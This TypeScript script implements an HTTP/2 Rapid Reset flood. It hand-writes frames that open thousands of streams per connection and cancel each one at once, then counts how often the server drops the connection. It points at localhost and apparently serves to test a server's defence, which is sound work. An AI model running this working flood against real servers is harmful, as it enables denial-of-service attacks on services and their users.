import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/**
 * `node rapid-reset.ts PORT SECONDS`: opens connections by HTTP/2 with prior knowledge (RFC 9113 §3.3), asks on each for as many
 * things as it can and takes every request back at once, until the other side has had enough; then the next. Frames are
 * written by hand, as no client would do this.
 */
const [port = '0', seconds = '10'] = process.argv.slice(2);

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const [HEADERS, RESET, SETTINGS] = [1, 3, 4];
const END_STREAM_AND_HEADERS = 5;
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** GET / over http from HPACK's static table (RFC 7541, appendix A), and `:authority: a`. */
const GET = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x61]);
const STREAMS = 20_000;
const STREAMS_AT_ONCE = 500;
const PAUSE_MS = 50;

const until = performance.now() + Number(seconds) * 1000;
const result = { opened: 0, cutOff: 0 };
while (performance.now() < until) {
  result.opened++;
  if (await flood()) result.cutOff++;
  await wait(PAUSE_MS);
}
process.stdout.write(`${JSON.stringify(result)}\n`);

/** True when the other side ended the connection before all was sent, or soon after. */
async function flood(): Promise<boolean> {
  const socket = connect(Number(port), '127.0.0.1');
  let closed = false;
  socket.on('error', () => {}).resume();
  const ended = new Promise<void>((resolve) => {
    socket.on('close', () => {
      closed = true;
      resolve();
    });
  });
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  for (let sent = 0; sent < STREAMS && !closed; sent += STREAMS_AT_ONCE) {
    const frames: Buffer[] = [];
    for (let i = 0; i < STREAMS_AT_ONCE; i++) {
      const stream = 2 * (sent + i) + 1;
      frames.push(frame(HEADERS, END_STREAM_AND_HEADERS, stream, GET), frame(RESET, 0, stream, CANCEL));
    }
    if (!socket.write(Buffer.concat(frames))) await Promise.race([drained(socket), ended]);
  }
  if (!closed) await Promise.race([ended, wait(2_000)]);
  const wasCutOff = closed;
  socket.destroy();
  return wasCutOff;
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => socket.once('drain', resolve));
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
